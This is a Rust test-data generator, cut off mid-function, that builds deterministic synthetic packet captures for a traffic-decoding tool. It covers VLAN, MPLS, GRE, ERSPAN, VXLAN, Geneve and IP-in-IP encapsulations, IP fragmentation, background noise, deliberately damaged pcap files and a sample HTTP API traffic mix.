//! Generates the test captures under `testdata/` (run `scripts/gen-testdata`).
//!
//! Every case is deterministic: fixed timestamps from 2024-05-01T12:00:00Z,
//! fixed addresses (10.x, fd00::), fixed ISNs, so two runs give byte-identical
//! files. Each case folder gets its capture and a README; the expected stage
//! outputs next to them are written by `scripts/bless`, never by this program.
//!
//! Usage: `cargo run --example gen_testdata -- [DIR]` (default `testdata`).
//! The end-to-end tests include this file to check `testdata/` is up to date.

use std::fmt::Write as _;
use std::path::Path;

use common::record::{LinkType, Ts};
use common::synth::{
    ethernet_for, pcap_bytes, Dir, Frame, GeneveOpt, PcapNg, Segment, TcpConversation, CLIENT_MAC,
    EPOCH_2024_05_01, SERVER_MAC,
};

/// One generated case.
pub struct Case {
    pub name: &'static str,
    /// `input.pcap` or `input.pcapng`.
    pub file: &'static str,
    pub bytes: Vec<u8>,
    pub readme: String,
    /// HTTP requests tshark must find (`-Y http.request`); `None` for damaged files.
    pub http_requests: Option<usize>,
    /// Extra tshark arguments needed to decode the case.
    pub tshark_args: &'static [&'static str],
}

const CLIENT: &str = "10.1.0.7:51234";
const SERVER: &str = "10.1.0.9:80";
const CLIENT6: &str = "[fd00::7]:51234";
const SERVER6: &str = "[fd00::9]:80";
const OUTER_SRC: &str = "10.0.0.5";
const OUTER_DST: &str = "10.0.0.9";

fn http_request(method: &str, uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut s = format!("{method} {uri} HTTP/1.1\r\nHost: app.example\r\n");
    for (k, v) in headers {
        let _ = write!(s, "{k}: {v}\r\n");
    }
    if !body.is_empty() || method == "POST" || method == "PUT" {
        let _ = write!(s, "Content-Length: {}\r\n", body.len());
    }
    s.push_str("\r\n");
    let mut v = s.into_bytes();
    v.extend_from_slice(body);
    v
}

fn http_response(status: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut s = format!("HTTP/1.1 {status}\r\n");
    for (k, v) in headers {
        let _ = write!(s, "{k}: {v}\r\n");
    }
    if !headers.iter().any(|(k, _)| *k == "Transfer-Encoding") {
        let _ = write!(s, "Content-Length: {}\r\n", body.len());
    }
    s.push_str("\r\n");
    let mut v = s.into_bytes();
    v.extend_from_slice(body);
    v
}

/// The short keep-alive exchange every basic case carries: two requests, two responses.
fn exchange(client: &str, server: &str) -> TcpConversation {
    let json = [("Content-Type", "application/json")];
    TcpConversation::new(client, server)
        .request(&http_request(
            "GET",
            "/api/items?page=1",
            &[
                ("User-Agent", "tw-synth/1.0"),
                ("Accept", "application/json"),
            ],
            b"",
        ))
        .response(&http_response(
            "200 OK",
            &json,
            br#"{"items":[{"id":1,"name":"bolt"},{"id":2,"name":"nut"}]}"#,
        ))
        .request(&http_request(
            "POST",
            "/api/items",
            &[("User-Agent", "tw-synth/1.0"), json[0]],
            br#"{"name":"widget"}"#,
        ))
        .response(&http_response("201 Created", &json, br#"{"id":3}"#))
}

/// The frames of `conv`, each segment wrapped by `encap`.
fn wrap(conv: &TcpConversation, encap: impl Fn(&Segment) -> Frame) -> Vec<(Ts, Vec<u8>)> {
    conv.frames(encap)
}

/// An outer Ethernet + IPv4 header from the mirror source to the sensor.
fn outer() -> Frame {
    Frame::new().ethernet().ipv4(OUTER_SRC, OUTER_DST).ttl(63)
}

struct Spec {
    name: &'static str,
    what: &'static str,
    decap: &'static str,
    link: LinkType,
    frames: Vec<(Ts, Vec<u8>)>,
}

const EXCHANGE_NOTE: &str = "One TCP connection 10.1.0.7:51234 -> 10.1.0.9:80 \
(handshake, `GET /api/items?page=1` -> `200 OK` with a JSON body, `POST /api/items` -> \
`201 Created`, FIN both ways; 14 segments)";

fn basic_specs() -> Vec<Spec> {
    let conv = exchange(CLIENT, SERVER);
    let conv6 = exchange(CLIENT6, SERVER6);
    let mut specs = vec![];
    let mut add = |name, what, decap, link, frames| {
        specs.push(Spec {
            name,
            what,
            decap,
            link,
            frames,
        })
    };
    add(
        "plain-ethernet",
        "The baseline: Ethernet II, IPv4, TCP.",
        "14 `packet` records, empty `tunnel`, IPv4 10.1.0.7 <-> 10.1.0.9.",
        LinkType::Ethernet,
        wrap(&conv, |s| ethernet_for(s.dir)),
    );
    add(
        "linux-sll",
        "Linux cooked capture v1 (`tcpdump -i any`, DLT 113).",
        "14 `packet` records, empty `tunnel`.",
        LinkType::LinuxSll,
        wrap(&conv, |_| Frame::new().sll()),
    );
    add(
        "linux-sll2",
        "Linux cooked capture v2 (DLT 276, interface index 2).",
        "14 `packet` records, empty `tunnel`.",
        LinkType::LinuxSll2,
        wrap(&conv, |_| Frame::new().sll2()),
    );
    add(
        "raw-ip",
        "Raw IP, no link header (DLT 101), as captured on a tun device.",
        "14 `packet` records, empty `tunnel`.",
        LinkType::Raw,
        wrap(&conv, |_| Frame::raw()),
    );
    add(
        "bsd-null",
        "BSD loopback (DLT 0): a 4-byte address family (2, AF_INET) in host (little-endian) order.",
        "14 `packet` records, empty `tunnel`.",
        LinkType::Null,
        wrap(&conv, |_| Frame::new().null()),
    );
    add(
        "vlan-qinq",
        "QinQ: an 802.1ad service tag (0x88a8, VID 100) over an 802.1Q customer tag (0x8100, VID 42).",
        "14 `packet` records, each with `tunnel` `[{\"kind\":\"vlan\",\"vid\":100},{\"kind\":\"vlan\",\"vid\":42}]` (outermost first).",
        LinkType::Ethernet,
        wrap(&conv, |s| ethernet_for(s.dir).vlan(100).vlan(42)),
    );
    add(
        "vlan-9100",
        "Pre-standard QinQ: an outer tag with TPID 0x9100 (VID 100) over an 802.1Q tag (VID 42).",
        "14 `packet` records, each with two `vlan` entries (vid 100 then 42).",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            ethernet_for(s.dir)
                .vlan_tpid(0x9100, 100)
                .vlan_tpid(0x8100, 42)
        }),
    );
    add(
        "mpls-stack",
        "An MPLS label stack of two labels (1000, then 2000 with bottom-of-stack) over Ethernet, IPv4 below.",
        "14 `packet` records, each with two `mpls` tunnel entries (labels 1000 and 2000).",
        LinkType::Ethernet,
        wrap(&conv, |s| ethernet_for(s.dir).mpls(1000).mpls(2000)),
    );
    add(
        "ipv6-ext-headers",
        "IPv6 with a hop-by-hop header (Router Alert) and a destination options header before TCP, fd00::7 -> fd00::9.",
        "14 `packet` records with `ip.v` 6, the extension headers skipped, TCP decoded.",
        LinkType::Ethernet,
        conv6
            .segments()
            .iter()
            .map(|s| {
                let f = ethernet_for(s.dir)
                    .append(s.ip_frame(conv6.get_mss()))
                    .hop_by_hop()
                    .dest_opts();
                (s.ts, f.build())
            })
            .collect(),
    );
    add(
        "gre-key-seq",
        "GRE (IPv4 10.0.0.5 -> 10.0.0.9) with the key (0x1234) and sequence-number fields, inner IPv4 (protocol 0x0800).",
        "14 `packet` records, each with one `gre` tunnel entry (key 4660) and the outer addresses.",
        LinkType::Ethernet,
        {
            let segs = conv.segments();
            segs.iter()
                .enumerate()
                .map(|(i, s)| {
                    let f = outer()
                        .gre_with(false, Some(0x1234), Some(i as u32 + 1))
                        .append(s.ip_frame(conv.get_mss()));
                    (s.ts, f.build())
                })
                .collect()
        },
    );
    add(
        "gre-teb",
        "GRE transparent Ethernet bridging (protocol 0x6558): a whole Ethernet frame inside GRE.",
        "14 `packet` records, each with one `gre` tunnel entry; the inner Ethernet is decoded.",
        LinkType::Ethernet,
        wrap(&conv, |s| outer().gre().append(ethernet_for(s.dir))),
    );
    add(
        "erspan-i",
        "ERSPAN type I: GRE protocol 0x88be without the sequence bit, the mirrored Ethernet frame right after the 4-byte GRE header.",
        "14 `packet` records, each with one `erspan` tunnel entry (version 1 / type I).",
        LinkType::Ethernet,
        wrap(&conv, |s| outer().erspan1().append(ethernet_for(s.dir))),
    );
    add(
        "erspan-ii",
        "ERSPAN type II: GRE 0x88be with sequence numbers and the 8-byte ERSPAN II header (session 5, VLAN 42).",
        "14 `packet` records, each with one `erspan` tunnel entry (type II, session 5).",
        LinkType::Ethernet,
        {
            let segs = conv.segments();
            segs.iter()
                .enumerate()
                .map(|(i, s)| {
                    let f = outer()
                        .erspan2(5, 42, i as u32 + 1)
                        .append(ethernet_for(s.dir))
                        .append(s.ip_frame(conv.get_mss()));
                    (s.ts, f.build())
                })
                .collect()
        },
    );
    add(
        "erspan-iii",
        "ERSPAN type III: GRE 0x22eb with sequence numbers, the 12-byte ERSPAN III header (session 6, VLAN 42) and the 8-byte platform-specific subheader (O bit set).",
        "14 `packet` records, each with one `erspan` tunnel entry (type III, session 6).",
        LinkType::Ethernet,
        {
            let segs = conv.segments();
            segs.iter()
                .enumerate()
                .map(|(i, s)| {
                    let f = outer()
                        .erspan3(6, 42, i as u32 + 1, true)
                        .append(ethernet_for(s.dir))
                        .append(s.ip_frame(conv.get_mss()));
                    (s.ts, f.build())
                })
                .collect()
        },
    );
    add(
        "vxlan",
        "VXLAN on UDP 4789 (VNI 7) from the mirror source 10.0.0.5 to the sensor 10.0.0.9, inner Ethernet/IPv4/TCP.",
        "14 `packet` records, each with `tunnel` `[{\"kind\":\"vxlan\",\"vni\":7,\"outer_src\":\"10.0.0.5\",\"outer_dst\":\"10.0.0.9\"}]`.",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49152, 4789)
                .udp_zero_checksum()
                .vxlan(7)
                .append(ethernet_for(s.dir))
        }),
    );
    add(
        "vxlan-8472",
        "VXLAN on UDP 8472, the Linux kernel's historical default port (VNI 8). tshark needs `-d udp.port==8472,vxlan`.",
        "14 `packet` records, each with one `vxlan` tunnel entry (vni 8), provided port 8472 is among the VXLAN ports (it is by default).",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49152, 8472)
                .udp_zero_checksum()
                .vxlan(8)
                .append(ethernet_for(s.dir))
        }),
    );
    add(
        "vxlan-vlan",
        "VXLAN (VNI 7) whose inner Ethernet frame carries an 802.1Q tag (VID 42).",
        "14 `packet` records, each with `tunnel` `[vxlan vni 7, vlan vid 42]` (outermost first).",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49152, 4789)
                .udp_zero_checksum()
                .vxlan(7)
                .append(ethernet_for(s.dir).vlan(42))
        }),
    );
    add(
        "geneve-options",
        "Geneve on UDP 6081 (VNI 9) with two option TLVs (class 0x0102 type 0x80 with 4 bytes, class 0xffff type 1 with 8 bytes), inner Ethernet (protocol 0x6558).",
        "14 `packet` records, each with one `geneve` tunnel entry (vni 9); the options are skipped by their length.",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49152, 6081)
                .geneve(9, geneve_opts())
                .append(ethernet_for(s.dir))
        }),
    );
    add(
        "geneve-vxlan",
        "AWS-style nesting: a Gateway Load Balancer Geneve tunnel (UDP 6081, VNI 10, three AWS option TLVs of class 0x0108, inner IPv4) carrying VPC Traffic Mirroring VXLAN (UDP 4789, VNI 7) carrying the mirrored Ethernet frame.",
        "14 `packet` records, each with `tunnel` `[geneve vni 10, vxlan vni 7]` (outermost first).",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49153, 6081)
                .geneve(10, aws_geneve_opts())
                .ipv4("10.2.0.5", "10.2.0.9")
                .udp(49152, 4789)
                .udp_zero_checksum()
                .vxlan(7)
                .append(ethernet_for(s.dir))
        }),
    );
    add(
        "ipip-4in4",
        "IP-in-IP: IPv4 (protocol 4) from 10.0.0.5 to 10.0.0.9 carrying the IPv4 packet.",
        "14 `packet` records, each with one `ipip` tunnel entry and the outer addresses.",
        LinkType::Ethernet,
        wrap(&conv, |_| outer()),
    );
    add(
        "ipip-6in4",
        "6in4: IPv4 (protocol 41) from 10.0.0.5 to 10.0.0.9 carrying IPv6 fd00::7 <-> fd00::9.",
        "14 `packet` records with `ip.v` 6, each with one `ipip` tunnel entry.",
        LinkType::Ethernet,
        wrap(&conv6, |_| outer()),
    );
    specs
}

fn geneve_opts() -> Vec<GeneveOpt> {
    vec![
        GeneveOpt {
            class: 0x0102,
            kind: 0x80,
            data: vec![0xde, 0xad, 0xbe, 0xef],
        },
        GeneveOpt {
            class: 0xffff,
            kind: 0x01,
            data: b"tapwatch".to_vec(),
        },
    ]
}

/// The three options AWS GWLB attaches (class 0x0108): GWLBE/VPC endpoint id,
/// attachment id and flow cookie.
fn aws_geneve_opts() -> Vec<GeneveOpt> {
    vec![
        GeneveOpt {
            class: 0x0108,
            kind: 1,
            data: 0x0123_4567_89ab_cdefu64.to_be_bytes().to_vec(),
        },
        GeneveOpt {
            class: 0x0108,
            kind: 2,
            data: 0x0000_0000_0000_0042u64.to_be_bytes().to_vec(),
        },
        GeneveOpt {
            class: 0x0108,
            kind: 3,
            data: 0x1122_3344u32.to_be_bytes().to_vec(),
        },
    ]
}

/// Data segments split into IP fragments of `size` bytes; the fragments of the
/// first response segment are written in reverse order.
fn fragmented(conv: &TcpConversation, size: usize) -> Vec<(Ts, Vec<u8>)> {
    let mut out = vec![];
    let mut reversed = false;
    for s in conv.segments() {
        let f = ethernet_for(s.dir).append(s.ip_frame(conv.get_mss()));
        if s.payload.is_empty() {
            out.push((s.ts, f.build()));
            continue;
        }
        let mut frags = f.fragments(size);
        if s.dir == Dir::S2c && !reversed {
            frags.reverse();
            reversed = true;
        }
        // Fragments of one segment 10 µs apart, all before the next segment.
        for (i, frag) in frags.into_iter().enumerate() {
            let ts = Ts::new(s.ts.secs, s.ts.nanos + 10_000 * i as u32, s.ts.digits);
            out.push((ts, frag));
        }
    }
    out
}

fn readme(name: &str, what: &str, how: &str, file: &str, stages: &str) -> String {
    format!(
        "# {name}\n\n{what}\n\n## How it was made\n\n{how}\n\nGenerated by `scripts/gen-testdata` \
         (`examples/gen_testdata.rs`, case `{name}`): deterministic, timestamps from \
         2024-05-01T12:00:00Z. Do not edit `{file}` by hand; change the generator and rerun it.\n\n\
         ## What the stages should output\n\n{stages}\n\nThe expected outputs (`capture.ndjson`, \
         `decap.ndjson`, `decap.stderr`, ...) are written by `scripts/bless` and checked by \
         `cargo test --test e2e golden`.\n"
    )
}

fn basic_stage_text(decap: &str, frames: usize) -> String {
    format!(
        "- `tw-capture`: {frames} `frame` records, one per capture record, in file order.\n\
         - `tw-decap`: {decap}\n\
         - Later stages: one connection with two HTTP transactions (`GET /api/items?page=1` \
         -> 200, `POST /api/items` -> 201), closed by FIN."
    )
}

/// Every case, in a fixed order.
pub fn cases() -> Vec<Case> {
    let mut cases = vec![];
    for spec in basic_specs() {
        let how = format!("{EXCHANGE_NOTE}, wrapped as described above; classic pcap, microsecond timestamps, link type `{}`.", spec.link);
        cases.push(Case {
            name: spec.name,
            file: "input.pcap",
            readme: readme(
                spec.name,
                spec.what,
                &how,
                "input.pcap",
                &basic_stage_text(spec.decap, spec.frames.len()),
            ),
            bytes: pcap_bytes(spec.link, false, &spec.frames),
            http_requests: Some(2),
            tshark_args: if spec.name == "vxlan-8472" {
                &["-d", "udp.port==8472,vxlan"]
            } else {
                &[]
            },
        });
    }
    cases.push(fragments_case(
        "ipv4-fragments",
        exchange(CLIENT, SERVER),
        "IPv4 fragmentation: every TCP segment carrying data is split into IP fragments of at \
         most 64 bytes of payload (DF clear, ids counting per direction); the fragments of the \
         first response segment arrive in reverse order.",
    ));
    cases.push(fragments_case(
        "ipv6-fragments",
        exchange(CLIENT6, SERVER6),
        "IPv6 fragmentation: every TCP segment carrying data is split with IPv6 fragment \
         headers (next header 44) into fragments of at most 64 bytes; the fragments of the \
         first response segment arrive in reverse order.",
    ));
    cases.push(pcapng_multi());
    cases.push(pcap_nanos());
    cases.push(mixed_noise());
    cases.push(bad_truncated());
    cases.push(bad_caplen());
    cases.push(sample::case());
    cases
}

fn fragments_case(name: &'static str, conv: TcpConversation, what: &'static str) -> Case {
    // IPv4 ids must differ per datagram and DF must be clear on fragments.
    let frames = fragmented(&conv, 64);
    let stages = format!(
        "- `tw-capture`: {} `frame` records (fragments are separate records).\n\
         - `tw-decap`: the fragments reassembled: 14 `packet` records, the same as \
         `plain-ethernet` apart from addresses, times and the IP header fields.\n\
         - Later stages: the two HTTP transactions, as in `plain-ethernet`.",
        frames.len()
    );
    Case {
        name,
        file: "input.pcap",
        readme: readme(
            name,
            what,
            &format!("{EXCHANGE_NOTE}; classic pcap, microsecond timestamps, Ethernet."),
            "input.pcap",
            &stages,
        ),
        bytes: pcap_bytes(LinkType::Ethernet, false, &frames),
        http_requests: Some(2),
        tshark_args: &[],
    }
}

fn pcapng_multi() -> Case {
    // Connection A on eth0 (Ethernet, µs); connection B on tun0 (raw IP, ns),
    // starting 0.5 ms later so the two interleave.
    let a = exchange(CLIENT, SERVER);
    let b = exchange("10.1.0.8:40000", SERVER).start(Ts::from_nanos(EPOCH_2024_05_01, 500_123));
    let mut ng = PcapNg::new();
    let eth0 = ng.interface(LinkType::Ethernet, 6, "eth0");
    let tun0 = ng.interface(LinkType::Raw, 9, "tun0");
    let mut all: Vec<(Ts, u32, Vec<u8>)> = vec![];
    for (ts, f) in wrap(&a, |s| ethernet_for(s.dir)) {
        all.push((ts, eth0, f));
    }
    for (ts, f) in wrap(&b, |_| Frame::raw()) {
        all.push((ts, tun0, f));
    }
    all.sort_by_key(|(ts, iface, _)| (*ts, *iface));
    for (ts, iface, f) in &all {
        ng.packet(*iface, *ts, f);
    }
    Case {
        name: "pcapng-multi",
        file: "input.pcapng",
        readme: readme(
            "pcapng-multi",
            "pcapng with two interfaces of different link types: `eth0` (Ethernet, default \
             microsecond resolution) and `tun0` (raw IP, `if_tsresol` 9 = nanoseconds). Each \
             interface carries its own connection; their packets interleave in time.",
            &format!(
                "Two exchanges like `plain-ethernet`: 10.1.0.7:51234 -> 10.1.0.9:80 on `eth0` \
                 and 10.1.0.8:40000 -> 10.1.0.9:80 on `tun0`, starting 0.500123 ms later. \
                 One section, two IDBs, {} EPBs in time order.",
                all.len()
            ),
            "input.pcapng",
            "- `tw-capture`: 28 `frame` records; `src` names the interface (`eth0` or `tun0`), \
             `link` is `ethernet` or `raw`, `tun0` times carry nine fractional digits.\n\
             - `tw-decap`: 28 `packet` records, empty `tunnel`.\n\
             - Later stages: two connections, four HTTP transactions.",
        ),
        bytes: ng.into_bytes(),
        http_requests: Some(4),
        tshark_args: &[],
    }
}

fn pcap_nanos() -> Case {
    let conv = exchange(CLIENT, SERVER)
        .start(Ts::from_nanos(EPOCH_2024_05_01, 123))
        .step_nanos(1_000_001);
    let frames = wrap(&conv, |s| ethernet_for(s.dir));
    Case {
        name: "pcap-nanos",
        file: "input.pcap",
        readme: readme(
            "pcap-nanos",
            "Classic pcap with nanosecond timestamps (magic 0xa1b23c4d).",
            &format!(
                "{EXCHANGE_NOTE}; first packet at 12:00:00.000000123, then every 1.000001 ms."
            ),
            "input.pcap",
            "- `tw-capture`: 14 `frame` records whose `ts` keep nine fractional digits \
             (`2024-05-01T12:00:00.000000123Z`, `...00.001000124Z`, ...).\n\
             - `tw-decap`: 14 `packet` records with the same times.\n\
             - Later stages: as `plain-ethernet`, times in nanoseconds.",
        ),
        bytes: pcap_bytes(LinkType::Ethernet, true, &frames),
        http_requests: Some(2),
        tshark_args: &[],
    }
}

fn dns_query(id: u16, name: &str, response: bool) -> Vec<u8> {
    let mut v = id.to_be_bytes().to_vec();
    v.extend_from_slice(if response {
        &[0x81, 0x80]
    } else {
        &[0x01, 0x00]
    });
    v.extend_from_slice(&[0, 1, 0, u8::from(response), 0, 0, 0, 0]);
    for label in name.split('.') {
        v.push(label.len() as u8);
        v.extend_from_slice(label.as_bytes());
    }
    v.extend_from_slice(&[0, 0, 1, 0, 1]);
    if response {
        v.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 10, 1, 0, 9]);
    }
    v
}

fn mixed_noise() -> Case {
    let conv = exchange(CLIENT, SERVER).start(Ts::from_micros(EPOCH_2024_05_01, 100_000));
    let mut frames = wrap(&conv, |s| ethernet_for(s.dir));
    let t = |micros: u32| Ts::from_micros(EPOCH_2024_05_01, micros);
    let bcast = [0xff; 6];
    let noise: Vec<(Ts, Vec<u8>)> = vec![
        (
            t(0),
            Frame::new()
                .ethernet()
                .macs(CLIENT_MAC, bcast)
                .arp(false, "10.1.0.7", "10.1.0.1")
                .build(),
        ),
        (
            t(200),
            Frame::new()
                .ethernet()
                .macs(SERVER_MAC, CLIENT_MAC)
                .arp(true, "10.1.0.1", "10.1.0.7")
                .build(),
        ),
        (
            t(1_000),
            ethernet_for(Dir::C2s)
                .ipv4("10.1.0.7", "10.1.0.53")
                .udp(53000, 53)
                .payload(&dns_query(0x4242, "app.example", false))
                .build(),
        ),
        (
            t(1_800),
            ethernet_for(Dir::S2c)
                .ipv4("10.1.0.53", "10.1.0.7")
                .udp(53, 53000)
                .payload(&dns_query(0x4242, "app.example", true))
                .build(),
        ),
        (
            t(50_000),
            ethernet_for(Dir::C2s)
                .ipv4("10.1.0.7", "10.1.0.9")
                .icmp_echo(false, 7, 1)
                .payload(b"tapwatch-ping-0123456789abcdef")
                .build(),
        ),
        (
            t(50_300),
            ethernet_for(Dir::S2c)
                .ipv4("10.1.0.9", "10.1.0.7")
                .icmp_echo(true, 7, 1)
                .payload(b"tapwatch-ping-0123456789abcdef")
                .build(),
        ),
        (
            t(105_500),
            ethernet_for(Dir::C2s)
                .ipv6("fd00::7", "fd00::9")
                .icmpv6_echo(false, 8, 1)
                .payload(b"ping6")
                .build(),
        ),
        (
            t(107_500),
            ethernet_for(Dir::C2s)
                .ipv6("fd00::7", "fd00::53")
                .udp(53001, 53)
                .payload(&dns_query(0x4343, "app.example", false))
                .build(),
        ),
    ];
    frames.extend(noise);
    frames.sort_by_key(|(ts, _)| *ts);
    Case {
        name: "mixed-noise",
        file: "input.pcap",
        readme: readme(
            "mixed-noise",
            "The HTTP exchange among traffic a decoder must count and skip: an ARP request and \
             reply, a DNS query and response over UDP/IPv4, an ICMP echo request and reply, an \
             ICMPv6 echo request and a DNS query over UDP/IPv6 (non-TCP IPv6).",
            &format!("{EXCHANGE_NOTE}, starting at 12:00:00.1; the 8 other frames around and between it."),
            "input.pcap",
            "- `tw-capture`: 22 `frame` records.\n\
             - `tw-decap`: the 14 TCP segments as `packet` records; the ARP frames are counted \
             as non-IP and the UDP/ICMP/ICMPv6 packets as non-TCP in the `decap.stderr` \
             summary (or emitted as packets without `tcp`, whichever the stage's contract says).\n\
             - Later stages: the two HTTP transactions.",
        ),
        bytes: pcap_bytes(LinkType::Ethernet, false, &frames),
        http_requests: Some(2),
        tshark_args: &[],
    }
}

fn bad_truncated() -> Case {
    let frames = wrap(&exchange(CLIENT, SERVER), |s| ethernet_for(s.dir));
    let mut bytes = pcap_bytes(LinkType::Ethernet, false, &frames);
    // The last record (a 60-byte ACK) loses its final 20 bytes.
    bytes.truncate(bytes.len() - 20);
    Case {
        name: "bad-truncated",
        file: "input.pcap",
        readme: readme(
            "bad-truncated",
            "A pcap whose last record is cut short: the record header promises 60 bytes, only \
             40 follow (as when a capture is copied while still being written).",
            &format!("{EXCHANGE_NOTE}, written as `plain-ethernet`, then the last 20 bytes of the file removed."),
            "input.pcap",
            "- `tw-capture`: the first 13 frames, then a warning naming packet 13 and its byte \
             offset (\"record truncated\"), exit status 0 (status per `--strict` otherwise).\n\
             - `tw-decap`: 13 `packet` records; the summary counts the truncated record.\n\
             - Later stages: both HTTP transactions complete; the connection lacks its final ACK.",
        ),
        bytes,
        http_requests: None,
        tshark_args: &[],
    }
}

fn bad_caplen() -> Case {
    let frames = wrap(&exchange(CLIENT, SERVER), |s| ethernet_for(s.dir));
    let head = pcap_bytes(LinkType::Ethernet, false, &frames[..7]);
    let tail = pcap_bytes(LinkType::Ethernet, false, &frames[7..]);
    let mut bytes = head;
    // A damaged record header claiming 3 GB, followed by 8 bytes of junk.
    let secs = EPOCH_2024_05_01 as u32;
    for field in [secs, 6_500, 3_000_000_000, 3_000_000_000] {
        bytes.extend_from_slice(&field.to_ne_bytes());
    }
    bytes.extend_from_slice(b"garbage!");
    bytes.extend_from_slice(&tail[24..]);
    Case {
        name: "bad-caplen",
        file: "input.pcap",
        readme: readme(
            "bad-caplen",
            "A pcap with one damaged record in the middle: its header claims a captured length \
             of 3,000,000,000 bytes and 8 bytes of junk follow; good records come after it.",
            &format!("{EXCHANGE_NOTE}, written as `plain-ethernet` with the damaged header and junk inserted after the 7th record."),
            "input.pcap",
            "- `tw-capture`: all 14 real frames; one warning naming packet 7, its byte offset, \
             the impossible length and how many bytes were skipped to resynchronise.\n\
             - `tw-decap`: 14 `packet` records; the summary counts one damaged record.\n\
             - Later stages: both HTTP transactions, as in `plain-ethernet`.",
        ),
        bytes,
        http_requests: None,
        tshark_args: &[],
    }
}

/// The bundled sample: a small realistic mix over VXLAN and plain Ethernet.
mod sample {
    use super::*;

    /// CRC-32 (IEEE), for the gzip trailer.
    fn crc32(data: &[u8]) -> u32 {
        let mut crc = !0u32;
        for &b in data {
            crc ^= u32::from(b);
            for _ in 0..8 {
                crc = if crc & 1 != 0 {
                    (crc >> 1) ^ 0xedb8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }

    /// A valid gzip member holding `data` in one stored (uncompressed) deflate block.
    fn gzip_stored(data: &[u8]) -> Vec<u8> {
        let mut v = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
        let len = data.len() as u16;
        v.push(1);
        v.extend_from_slice(&len.to_le_bytes());
        v.extend_from_slice(&(!len).to_le_bytes());
        v.extend_from_slice(data);
        v.extend_from_slice(&crc32(data).to_le_bytes());
        v.extend_from_slice(&(data.len() as u32).to_le_bytes());
        v
    }

    fn chunked(body: &[u8], chunk: usize) -> Vec<u8> {
        let mut v = vec![];
        for c in body.chunks(chunk) {
            v.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
            v.extend_from_slice(c);
            v.extend_from_slice(b"\r\n");
        }
        v.extend_from_slice(b"0\r\n\r\n");
        v
    }

    const UA: &[&str] = &[
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 Safari/605.1.15",
        "okhttp/4.12.0",
        "python-requests/2.31.0",
    ];

    fn json_headers() -> Vec<(&'static str, &'static str)> {
        vec![
            ("Content-Type", "application/json"),
            ("Server", "nginx/1.24.0"),
            ("Cache-Control", "no-store"),
        ]
    }

    fn user_json(id: u32) -> String {
        format!(
            r#"{{"id":{id},"name":"user{id}","email":"user{id}@example.com","role":"member","created":"2024-04-{:02}T08:00:00Z"}}"#,
            id % 28 + 1
        )
    }

    /// One request/response pair of the sample's API, chosen by `k`.
    fn transaction(conn: u32, k: u32) -> (Vec<u8>, Vec<u8>) {
        let ua = UA[(conn as usize + k as usize) % UA.len()];
        let auth = format!("Bearer eyJhbGciOiJIUzI1NiJ9.c2FtcGxl.{conn:04x}{k:02x}");
        let base = [("User-Agent", ua), ("Accept", "application/json")];
        let with_auth = |extra: &[(&'static str, &str)]| -> Vec<(&str, String)> {
            let mut h: Vec<(&str, String)> =
                base.iter().map(|(a, b)| (*a, b.to_string())).collect();
            h.push(("Authorization", auth.clone()));
            h.extend(extra.iter().map(|(a, b)| (*a, b.to_string())));
            h
        };
        let req = |method: &str, uri: &str, headers: Vec<(&str, String)>, body: &[u8]| {
            let hs: Vec<(&str, &str)> = headers.iter().map(|(a, b)| (*a, b.as_str())).collect();
            http_request(method, uri, &hs, body)
        };
        let id = 100 + (conn * 7 + k * 3) % 50;
        match (conn + k) % 7 {
            0 => {
                let list: Vec<String> = (id..id + 3).map(user_json).collect();
                let body = format!(r#"{{"page":{},"users":[{}]}}"#, k + 1, list.join(","));
                (
                    req(
                        "GET",
                        &format!("/api/v1/users?page={}&limit=3", k + 1),
                        with_auth(&[]),
                        b"",
                    ),
                    http_response("200 OK", &json_headers(), body.as_bytes()),
                )
            }
            1 => (
                req("GET", &format!("/api/v1/users/{id}"), with_auth(&[]), b""),
                http_response("200 OK", &json_headers(), user_json(id).as_bytes()),
            ),
            2 => {
                let body = format!(
                    r#"{{"sku":"SKU-{id}","quantity":{},"note":"deliver to door"}}"#,
                    k + 1
                );
                (
                    req(
                        "POST",
                        "/api/v1/orders",
                        with_auth(&[("Content-Type", "application/json")]),
                        body.as_bytes(),
                    ),
                    http_response(
                        "201 Created",
                        &[
                            ("Content-Type", "application/json"),
                            ("Location", "/api/v1/orders/9001"),
                        ],
                        br#"{"id":9001,"status":"pending"}"#,
                    ),
                )
            }
            3 => (
                req(
                    "GET",
                    &format!("/api/v1/users/{}", id + 1000),
                    with_auth(&[]),
                    b"",
                ),
                http_response(
                    "404 Not Found",
                    &json_headers(),
                    br#"{"error":"not found"}"#,
                ),
            ),
            4 => {
                let body: Vec<String> = (0..12)
                    .map(|i| format!(r#"{{"sku":"SKU-{}","price":{}.99}}"#, id + i, 10 + i))
                    .collect();
                let body = format!("[{}]", body.join(","));
                (
                    req(
                        "GET",
                        "/api/v1/products?category=tools",
                        with_auth(&[("Accept-Encoding", "gzip")]),
                        b"",
                    ),
                    http_response(
                        "200 OK",
                        &[
                            ("Content-Type", "application/json"),
                            ("Content-Encoding", "gzip"),
                        ],
                        &gzip_stored(body.as_bytes()),
                    ),
                )
            }
            5 => {
                let items: Vec<String> = (0..20)
                    .map(|i| {
                        format!(
                            r#"{{"ts":"2024-05-01T11:{:02}:00Z","event":"login","user":{}}}"#,
                            i, id
                        )
                    })
                    .collect();
                let body = format!("[{}]", items.join(","));
                let mut resp = http_response(
                    "200 OK",
                    &[
                        ("Content-Type", "application/json"),
                        ("Transfer-Encoding", "chunked"),
                    ],
                    b"",
                );
                resp.extend_from_slice(&chunked(body.as_bytes(), 256));
                (
                    req(
                        "GET",
                        &format!("/api/v1/audit?user={id}"),
